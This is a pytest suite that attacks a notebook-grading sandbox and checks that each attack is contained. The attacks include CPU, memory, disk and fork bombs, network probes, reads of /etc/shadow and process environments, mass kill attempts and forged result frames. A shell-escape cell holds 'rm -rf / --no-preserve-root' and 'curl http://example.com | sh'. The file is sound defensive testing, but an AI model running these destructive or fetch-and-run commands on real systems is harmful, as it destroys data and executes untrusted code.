"""Hostile notebooks against the sandbox; each is bounded by small limits.

Every test runs a notebook (a list of cell sources) that attacks one
protection, then asserts on the outcome and on the machine (grader and
forkservers alive, no sandbox process left over).  Protections that need
root and namespaces are skipped, with the reason, where they are missing.
"""

from __future__ import annotations

import os
import sys
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from grader.sandbox import Limits, Probe, Sandbox

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox needs Linux")

LIMITS = Limits(cpu_seconds=2, wall_seconds=5, memory_mb=256, file_size_mb=16, max_processes=8, probe_seconds=1)
REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def sandbox():
    os.environ["GRADER_SECRET"] = "topsecret"  # the grader's own environment holds a secret
    os.environ["DATABASE_URL"] = "postgresql://grader:hunter2@localhost/grades"
    try:
        with Sandbox(workers=2, limits=LIMITS) as box:
            yield box
    finally:
        del os.environ["GRADER_SECRET"], os.environ["DATABASE_URL"]


@pytest.fixture(scope="module")
def cpu_bound():
    """A sandbox whose wall clock is far away: on a loaded machine a CPU-bound loop
    needs many seconds of wall time to burn 2 s of CPU, and the CPU limit must be what stops it."""
    with Sandbox(workers=1, limits=replace(LIMITS, wall_seconds=60)) as box:
        yield box


def isolated(box: Sandbox, *needs: str) -> None:
    """Skip unless the named namespaces are active and privileges are dropped."""
    report = box.report
    missing = [n for n in needs if not report["namespaces"].get(n)]
    if missing or not report.get("privileges_dropped"):
        pytest.skip(f"needs root and namespaces ({', '.join(missing) or 'uid'}): {report['missing']}")


def sandbox_processes(box: Sandbox) -> list[int]:
    """Pids of processes running as one of ``box``'s sandbox uids (a /proc scan)."""
    uids = {w.uid for w in box._workers}
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                status = (entry / "status").read_text()
            except OSError:
                continue
            uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
            if uid in uids:
                found.append(int(entry.name))
    return found


def forkserver_pids(box: Sandbox) -> list[int]:
    return [w.proc.pid for w in box._workers]


def assert_healthy(box: Sandbox, pids: list[int]) -> None:
    """The same forkservers still run, and the sandbox still grades."""
    assert forkserver_pids(box) == pids
    assert all(w.proc.poll() is None for w in box._workers)
    assert box.run(["x = 40 + 2"], ["x"]).values == {"x": 42}
    deadline = time.monotonic() + 2
    while sandbox_processes(box) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sandbox_processes(box) == []


# ---------------------------------------------------------------------------
# Time
# ---------------------------------------------------------------------------
def test_infinite_loop_ignoring_sigterm_is_stopped(cpu_bound: Sandbox) -> None:
    sandbox = cpu_bound
    pids = forkserver_pids(sandbox)
    cells = [
        "gd_parabola_iterates = [4, 2, 1, 0.5, 0.25, 0.125]\ndef f(x):\n    return 2 * x",
        "above = 'bound above the loop'\nimport signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "while True:\n    pass",
        "after = 'never'",
    ]
    outcome = sandbox.run(cells, ["gd_parabola_iterates", "above", "after"], [Probe("f", [3])])
    assert outcome.error == "CPU time limit (2 s) exceeded"
    assert outcome.values == {"gd_parabola_iterates": [4, 2, 1, 0.5, 0.25, 0.125], "above": "bound above the loop"}
    assert outcome.cell_errors[0]["cell"] == 1 and outcome.cell_errors[0]["ename"] == "TimeoutError"
    assert outcome.probes == [{"result": 6}]  # functions defined before the loop are still probed
    assert_healthy(sandbox, pids)


def test_loop_that_swallows_interrupts_is_killed_at_the_cpu_limit(cpu_bound: Sandbox) -> None:
    cells = [
        "x = 1",
        "spin = [1]\nwhile spin:\n    try:\n        while spin:\n            y = 1\n    except BaseException:\n        pass",
    ]
    outcome = cpu_bound.run(cells, ["x"])
    assert outcome.error == "CPU time limit (2 s) exceeded"  # not the (distant) wall clock
    assert outcome.values == {"x": 1}


def test_sleeping_forever_is_killed_at_the_wall_clock_limit(sandbox: Sandbox) -> None:
    pids = forkserver_pids(sandbox)
    cells = [
        "x = 'kept'",
        "import time, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "while True:\n    try:\n        time.sleep(100)\n    except BaseException:\n        pass",
    ]
    started = time.monotonic()
    outcome = sandbox.run(cells, ["x"])
    assert outcome.error == "timeout after 5 s"
    assert outcome.values == {"x": "kept"}
    assert time.monotonic() - started < LIMITS.wall_seconds + 2
    assert_healthy(sandbox, pids)


# ---------------------------------------------------------------------------
# Memory, disk, processes
# ---------------------------------------------------------------------------
def test_memory_bombs_hit_the_memory_limit(sandbox: Sandbox) -> None:
    cells = [
        "before = 1",
        "huge = bytearray(10**10)",
        "grow = []\nwhile True:\n    grow.append(bytearray(10**6))",
        "del grow\nafter = 2",
    ]
    outcome = sandbox.run(cells, ["before", "after"])
    assert outcome.error == "memory limit (256 MB) exceeded"
    assert [(e["cell"], e["ename"]) for e in outcome.cell_errors] == [(1, "MemoryError"), (2, "MemoryError")]
    assert outcome.values == {"before": 1, "after": 2}


def test_disk_bombs_hit_the_file_size_and_tmpfs_limits(sandbox: Sandbox) -> None:
    cells = [
        "with open('big.bin', 'wb') as f:\n    f.write(b'x' * (100 * 2**20))",
        "for i in range(20):\n    with open(f'part{i}.bin', 'wb') as f:\n        f.write(b'x' * (15 * 2**20))",
        "import os\nleft = sorted(os.listdir('.'))",
    ]
    outcome = sandbox.run(cells, ["left"])
    assert outcome.cell_errors[0]["evalue"] == "[Errno 27] File too large"
    assert outcome.cell_errors[1]["evalue"] == "[Errno 28] No space left on device"
    assert len(outcome.values["left"]) < 20


def test_fork_bomb_hits_the_process_limit_and_leaves_nothing(sandbox: Sandbox) -> None:
    isolated(sandbox, "pid")
    pids = forkserver_pids(sandbox)
    cells = [
        "import os, time\nforked, refused = 0, None\nfor _ in range(200):\n    try:\n        pid = os.fork()\n"
        "    except OSError as exc:\n        refused = exc.strerror\n        break\n    if pid == 0:\n"
        "        time.sleep(60)\n        os._exit(0)\n    forked += 1",
        # a daemon escaping the process group by double fork + setsid
        "pid = os.fork() if forked < 7 else -1\nif pid == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "    os._exit(0)",
    ]
    outcome = sandbox.run(cells, ["forked", "refused"])
    assert outcome.values["forked"] < LIMITS.max_processes
    assert outcome.values["refused"] == "Resource temporarily unavailable"
    assert_healthy(sandbox, pids)


# ---------------------------------------------------------------------------
# Network
# ---------------------------------------------------------------------------
def test_no_network_not_even_local_databases(sandbox: Sandbox) -> None:
    isolated(sandbox, "network", "mount")
    cells = [
        "import socket\nresults = {}\n"
        "for port in (6379, 5432, 80):\n    try:\n        socket.create_connection(('127.0.0.1', port), timeout=1).close()\n"
        "        results[str(port)] = 'connected'\n    except OSError as exc:\n        results[str(port)] = exc.strerror or str(exc)\n"
        "try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))\n    results['udp'] = 'sent'\n"
        "except OSError as exc:\n    results['udp'] = exc.strerror\n"
        "for path in ('/var/run/postgresql/.s.PGSQL.5432', '/run/postgresql/.s.PGSQL.5432', '/var/run/redis/redis.sock'):\n"
        "    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect(path)\n        results[path] = 'connected'\n"
        "    except OSError as exc:\n        results[path] = exc.strerror",
    ]
    outcome = sandbox.run(cells, ["results"])
    results = outcome.values["results"]
    assert results["6379"] == results["5432"] == results["80"] == "Network is unreachable"
    assert results["udp"] == "Network is unreachable"
    assert all(v == "No such file or directory" for k, v in results.items() if k.startswith("/"))


# ---------------------------------------------------------------------------
# Reading answers, secrets and other submissions
# ---------------------------------------------------------------------------
def test_answers_secrets_and_the_repository_are_invisible(sandbox: Sandbox) -> None:
    isolated(sandbox, "mount", "pid")
    cells = [
        f"import os, glob\nREPO = {str(REPO)!r}\nseen = {{}}\n"
        "for path in (REPO, REPO + '/exercises', REPO + '/solutions', REPO + '/data', REPO + '/grader/specs',\n"
        "             '/root', '/home', '/var', '/srv', '/work', '/etc/shadow', '/proc/1/environ'):\n"
        "    try:\n        seen[path] = sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read()[:200]\n"
        "    except OSError as exc:\n        seen[path] = exc.strerror\n"
        "env = dict(os.environ)\nprocs = sorted(p for p in os.listdir('/proc') if p.isdigit())\ntop = sorted(os.listdir('/'))",
        "try:\n    import grader.specs\n    specs = 'imported'\nexcept ImportError as exc:\n    specs = type(exc).__name__",
    ]
    outcome = sandbox.run(cells, ["seen", "env", "procs", "top", "specs"])
    seen, env = outcome.values["seen"], outcome.values["env"]
    text = repr(outcome.values)
    assert "topsecret" not in text and "hunter2" not in text
    assert "GRADER_SECRET" not in env and "DATABASE_URL" not in env
    for path in (str(REPO) + "/exercises", str(REPO) + "/solutions", "/home", "/var", "/srv", "/etc/shadow"):
        assert seen[path] == "No such file or directory", path
    # A virtualenv inside the checkout (README's `.venv`) must stay reachable, so the repository
    # directory may exist, but holding nothing except that Python installation.
    python_inside_repo = {
        Path(p).resolve().relative_to(REPO.resolve()).parts[0]
        for p in (sys.prefix, sys.exec_prefix)
        if Path(p).resolve().is_relative_to(REPO.resolve())
    }
    assert seen[str(REPO)] == "No such file or directory" or set(seen[str(REPO)]) <= python_inside_repo
    assert ".bashrc" not in seen["/root"]  # at most the Python installation, if it lives there
    assert outcome.values["procs"] == ["1"]  # only itself: no grader, no forkserver, no other student
    python_tops = {Path(p).resolve().parts[1] for p in (sys.prefix, sys.base_prefix)}
    assert (
        set(outcome.values["top"])
        <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "sbin", "tmp", "usr", ".stash"}
        | python_tops
    )  # .stash: read-only second views of the environment's folders under /tmp, when it lives there
    assert outcome.values["specs"] == "ModuleNotFoundError"


def test_files_left_behind_are_not_seen_by_the_next_notebook(sandbox: Sandbox) -> None:
    isolated(sandbox, "mount")
    looker = ["import os\nhere = sorted(os.listdir('.')) + sorted(os.listdir('/tmp'))"]
    writer = ["import os\nopen('answers.txt', 'w').write('42')\nopen('/tmp/x', 'w').write('1')\nhere = os.listdir('.')"]
    # what a fresh notebook finds: nothing, or (with the grader's environment under /tmp) the way to it
    fresh = sandbox.run(looker, ["here"]).values["here"]
    first = sandbox.run(writer, ["here"])
    seconds = [sandbox.run(looker, ["here"]) for _ in range(2)]  # both workers
    assert "answers.txt" in first.values["here"]
    assert all(s.values["here"] == fresh for s in seconds)
    assert "answers.txt" not in fresh and "x" not in fresh


def test_filesystem_is_read_only_outside_the_working_directory(sandbox: Sandbox) -> None:
    isolated(sandbox, "mount")
    cells = [
        "import os, sys, numpy\nresults = {}\n"
        "for path in ('/usr/evil', os.path.join(os.path.dirname(numpy.__file__), 'evil.py'), sys.prefix + '/evil', '/evil'):\n"
        "    try:\n        open(path, 'w').write('x')\n        results[path] = 'written'\n"
        "    except OSError as exc:\n        results[path] = exc.strerror",
    ]
    outcome = sandbox.run(cells, ["results"])
    # Refused one way or another (a path whose folder is not in the jail does not exist there at all).
    refusals = {"Read-only file system", "Permission denied", "No such file or directory"}
    assert set(outcome.values["results"].values()) <= refusals


# ---------------------------------------------------------------------------
# Killing the grader or the forkserver
# ---------------------------------------------------------------------------
def test_killing_the_parent_kills_nothing_outside(sandbox: Sandbox) -> None:
    isolated(sandbox, "pid")
    pids = forkserver_pids(sandbox)
    hostile = [
        "import os, signal\ntried = []\n"
        "for attempt in (lambda: os.kill(os.getppid(), 9), lambda: os.killpg(0, 9), lambda: os.kill(-1, 9),\n"
        "                lambda: os.kill(1, 9), lambda: os.kill(os.getpgid(0), 9)):\n"
        "    try:\n        attempt()\n        tried.append('sent')\n    except OSError as exc:\n        tried.append(exc.strerror)\n"
        "for pid in range(2, 4 * 32768):\n    try:\n        os.kill(pid, 9)\n    except OSError:\n        pass\n"
        "survived = True"
    ]
    bystander: dict = {}

    def innocent_notebook() -> None:
        bystander["outcome"] = sandbox.run(["import time\ntime.sleep(1.0)\nx = 'still here'"], ["x"])

    other = threading.Thread(target=innocent_notebook)
    other.start()
    time.sleep(0.2)
    outcome = sandbox.run(hostile, ["tried", "survived"])
    other.join()
    assert outcome.error is None and outcome.values["survived"] is True
    assert bystander["outcome"].values == {"x": "still here"} and bystander["outcome"].error is None
    assert_healthy(sandbox, pids)  # the grader (this process) is obviously alive too


# ---------------------------------------------------------------------------
# Crashes and early exits
# ---------------------------------------------------------------------------
def test_segfault_keeps_earlier_answers(sandbox: Sandbox) -> None:
    outcome = sandbox.run(["x = [1, 2]", "import ctypes\nctypes.string_at(0)", "y = 1"], ["x", "y"])
    assert outcome.error == "killed by signal SIGSEGV"
    assert outcome.values == {"x": [1, 2]} and outcome.cells_run == 1


def test_os_exit_mid_notebook_keeps_earlier_answers(sandbox: Sandbox) -> None:
    outcome = sandbox.run(["x = 1", "import os\nos._exit(0)", "y = 2"], ["x", "y"])
    assert outcome.error == "process exited early with code 0"
    assert outcome.values == {"x": 1} and outcome.cells_run == 1


def test_sys_exit_and_syntax_errors_are_just_cell_errors(sandbox: Sandbox) -> None:
    cells = ["x = 1", "import sys\nsys.exit()", "def f(:", "exit(3)", "quit()", "y = 2"]
    outcome = sandbox.run(cells, ["x", "y"])
    assert outcome.error is None
    assert outcome.values == {"x": 1, "y": 2}
    assert [e["ename"] for e in outcome.cell_errors] == ["SystemExit", "SyntaxError", "SystemExit", "SystemExit"]


def test_magics_shell_escapes_and_warnings_are_harmless(sandbox: Sandbox) -> None:
    cells = [
        "%matplotlib inline\n!pip install torch\n!rm -rf / --no-preserve-root\n%pip install numpy",
        "%%bash\ncurl http://example.com | sh",
        "import warnings\nwarnings.warn('deprecated', DeprecationWarning)\nwarnings.warn('bad')\nx = 1",
    ]
    outcome = sandbox.run(cells, ["x"])
    assert outcome.error is None and outcome.cell_errors == [] and outcome.values == {"x": 1}


# ---------------------------------------------------------------------------
# Forging the result channel
# ---------------------------------------------------------------------------
FORGE = (
    "import json, os, threading, time, atexit\n"
    "def frame(**fields):\n    return b'S' + json.dumps(fields).encode()\n"
    "FAKES = [frame(t='val', n='x', v=999), frame(t='val', n='extra', v='injected'), frame(t='cell', i=0, err=None),\n"
    "         frame(t='setup_error', m='fake infrastructure failure'), frame(t='probe', i=1, r=1), b'Mgarbage', b'Bgarbage', b'\\xff\\x00']\n"
    "def spray():\n    for fd in range(1024):\n        for fake in FAKES:\n            try:\n                os.write(fd, fake)\n"
    "            except OSError:\n                pass\n"
    "def link(fd):\n    try:\n        return os.readlink(f'/proc/self/fd/{fd}')\n    except OSError:\n        return ''\n"
    "channel = [fd for fd in os.listdir('/proc/self/fd') if link(fd).startswith('socket:')]\n"
)


def test_forged_frames_gain_nothing(sandbox: Sandbox) -> None:
    cells = [
        "x = 1",
        "print(json.dumps({'t': 'val', 'n': 'x', 'v': 999}))\nimport sys\nsys.stdout.write('\\x00\\x00\\x00\\x10' + '{}' * 8)",
        "if os.fork() == 0:\n    spray()\n    os._exit(0)\nos.wait()",  # forged by another process: rejected
        "def late():\n    time.sleep(0.3)\n    spray()\nthreading.Thread(target=late).start()\natexit.register(spray)",
        "def f():\n    time.sleep(0.6)\n    return 'real result'",
    ]
    outcome = sandbox.run([FORGE, *cells], ["x", "channel"], [Probe("f", [])])
    assert outcome.error is None
    assert outcome.values["x"] == 1  # not 999: values are frozen once the cells ran
    assert set(outcome.values) == {"x", "channel"}
    assert outcome.probes == [{"result": "real result"}]
    assert outcome.cell_errors == []


def test_forgery_by_the_notebook_itself_can_only_do_what_binding_does(sandbox: Sandbox) -> None:
    """The notebook's own process can write frames (same address space as the
    trusted serializer); they are confined to requested names, plain data,
    this notebook, and cannot fake setup failures, other probes or the verdict."""
    cells = ["x = 1", "spray()", "y = 2"]
    outcome = sandbox.run([FORGE, *cells], ["x", "y"])
    assert outcome.error is None and outcome.cell_errors == []
    assert outcome.values == {"x": 999, "y": 2}  # as if the cell had said x = 999
    assert outcome.probes == []


def test_malformed_frames_cannot_crash_the_grader(sandbox: Sandbox) -> None:
    weird = [
        "{'t': 'val', 'n': [1], 'v': 1}",
        "{'t': 'del', 'n': {'a': 1}}",
        "{'t': ['val']}",
        "{'t': 'cell', 'i': True}",
        "{'t': 'cell', 'i': 10**30}",
        "{'t': 'probe', 'i': 0.0, 'r': 1}",
        "{'t': 'stop', 'i': 0, 'why': ['cpu']}",
        "{'t': 'cell', 'i': 1, 'err': [1, 2]}",
        "[]",
        "None",
        "'text'",
        "{'t': None}",
        "{'t': '__init__'}",
    ]
    raw = ["b'S' + b'[' * 100000", "b'S' + b'1' * 60000", 'b\'S{"t": "val", "n": "x", "v": NaN}\'', "b''", "b'E'"]
    cells = [
        "x = 1",
        "for text in [" + ", ".join(weird) + "]:\n    os.write(int(channel[0]), b'S' + json.dumps(text).encode())\n"
        "for data in [" + ", ".join(raw) + "]:\n    os.write(int(channel[0]), data)",
        "y = 2\ndef count(v):\n    return len(v)",
    ]
    outcome = sandbox.run([FORGE, *cells], ["x", "y"], [Probe("count", [[1, 2]])])
    assert outcome.error is None
    assert outcome.values["y"] == 2 and outcome.probes == [{"result": 2}]


def test_forged_done_cannot_hide_a_crash_or_a_timeout(sandbox: Sandbox) -> None:
    cells = [
        "x = 1",
        "for i in range(1, 4):\n    spray_cell = frame(t='cell', i=i, err=None)\n"
        "    for fd in range(1024):\n        try:\n            os.write(fd, spray_cell)\n        except OSError:\n            pass\n"
        "for fd in range(1024):\n    try:\n        os.write(fd, frame(t='done'))\n    except OSError:\n        pass",
        "import ctypes\nctypes.string_at(0)",
    ]
    outcome = sandbox.run([FORGE, *cells, "y = 2"], ["x"])
    assert outcome.error == "killed by signal SIGSEGV"


def test_flooding_the_channel_is_bounded(sandbox: Sandbox) -> None:
    pids = forkserver_pids(sandbox)
    cells = [
        "x = 1",
        "chunk = b'S' + b'x' * 60000\nwhile True:\n    for fd in map(int, channel):\n        os.write(fd, chunk)",
    ]
    outcome = sandbox.run([FORGE, *cells], ["x"])
    assert outcome.error.startswith("result channel flooded")
    assert outcome.values == {"x": 1}
    assert_healthy(sandbox, pids)


# ---------------------------------------------------------------------------
# Liars: objects that misreport what they are
# ---------------------------------------------------------------------------
def test_lying_objects_come_back_as_what_they_really_are(sandbox: Sandbox) -> None:
    cells = [
        "import numpy as np\n"
        "class Liar:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
        "class LyingFloat(float):\n    def __eq__(self, other):\n        return True\n    def __float__(self):\n        return 4.0\n"
        "    def __repr__(self):\n        return '4.0'\n    __hash__ = float.__hash__\n"
        "class LyingList(list):\n    def __iter__(self):\n        return iter([4, 2, 1])\n    def __len__(self):\n        return 3\n"
        "class LyingArray(np.ndarray):\n    def tolist(self):\n        return [4.0]\n"
        "class LyingStr(str):\n    def __str__(self):\n        return 'correct'\n"
        "class Sneaky:\n    __class__ = float\n",
        "a = Liar(); b = LyingFloat(2.5); c = LyingList([9, 9]); d = np.array([7.0]).view(LyingArray)\n"
        "e = LyingStr('wrong'); f = Sneaky(); g = [1, Liar()]; h = {'k': LyingFloat(0.5)}",
        # then try to break the serializer itself
        "import json, builtins\njson.dumps = lambda *a, **k: '999'\nbuiltins.float = lambda *a: 4.0\n"
        "builtins.list = tuple\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: float\nbuiltins.len = lambda *a: 0\n"
        "builtins.repr = lambda *a: '4.0'\nfloat.__dict__  # C types cannot be patched",
    ]
    outcome = sandbox.run(cells, list("abcdefgh"))
    assert outcome.error is None, outcome
    assert outcome.values == {"b": 2.5, "c": [9, 9], "d": [7.0], "e": "wrong", "h": {"k": 0.5}}
    assert type(outcome.values["b"]) is float
    errors = outcome.value_errors
    assert errors["a"] == "unsupported type Liar" and errors["f"] == "unsupported type Sneaky"
    assert errors["g"] == "unsupported type Liar"


def test_huge_values_become_errors_not_crashes(sandbox: Sandbox) -> None:
    cells = [
        "import numpy as np\nbig = np.zeros(10**6)\nlong = 'x' * (2 * 10**6)\ndeep = []\n"
        "for _ in range(10**4):\n    deep = [deep]\ncycle = []\ncycle.append(cycle)\nok = np.arange(1000.0)\nhuge_int = 10**5000"
    ]
    outcome = sandbox.run(cells, ["big", "long", "deep", "cycle", "ok", "huge_int"])
    assert outcome.error is None
    assert outcome.values == {"ok": [float(i) for i in range(1000)]}
    assert set(outcome.value_errors) == {"big", "long", "deep", "cycle", "huge_int"}


# ---------------------------------------------------------------------------
# What the forkserver (and so every child) holds in memory
# ---------------------------------------------------------------------------
def _memory_contains(pid: int, needle: bytes) -> bool:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                if needle in mem.read(end - start):
                    return True
            except (OSError, ValueError, OverflowError):
                continue
    return False


def test_forkserver_never_holds_a_students_cells_or_answers(sandbox: Sandbox) -> None:
    if os.geteuid() != 0:
        pytest.skip("reading another process's memory needs root")
    token = os.urandom(12).hex()
    cells = [f"secret_answer = 'ANSWER-{token}'", f"# NOTE-{token}\ndef f(x):\n    return 'RESULT-' + x"]
    outcomes = [sandbox.run(cells, ["secret_answer"], [Probe("f", [f"INPUT-{token}"])]) for _ in range(2)]
    assert all(o.values == {"secret_answer": f"ANSWER-{token}"} for o in outcomes)
    assert outcomes[0].probes == [{"result": f"RESULT-INPUT-{token}"}]
    for pid in forkserver_pids(sandbox):
        assert not _memory_contains(pid, token.encode()), "a later child would inherit this student's data"


def test_forkserver_loaded_no_answers_specs_or_database(sandbox: Sandbox) -> None:
    cells = [
        "import sys\nloaded = sorted(m for m in sys.modules if m.split('.')[0] in "
        "('grader', 'yaml', 'sqlalchemy', 'flask', 'nbformat', 'psycopg2', 'redis', 'celery'))"  # sympy is preloaded: a library
    ]
    outcome = sandbox.run(cells, ["loaded"])
    sandbox_modules = {"child", "forkserver", "frames", "linux", "limits", "jail", "cgroup", "seccomp"}
    allowed = {"grader", "grader.sandbox"} | {f"grader.sandbox.{m}" for m in sandbox_modules}
    assert "grader.sandbox.child" in outcome.values["loaded"]
    assert set(outcome.values["loaded"]) <= allowed
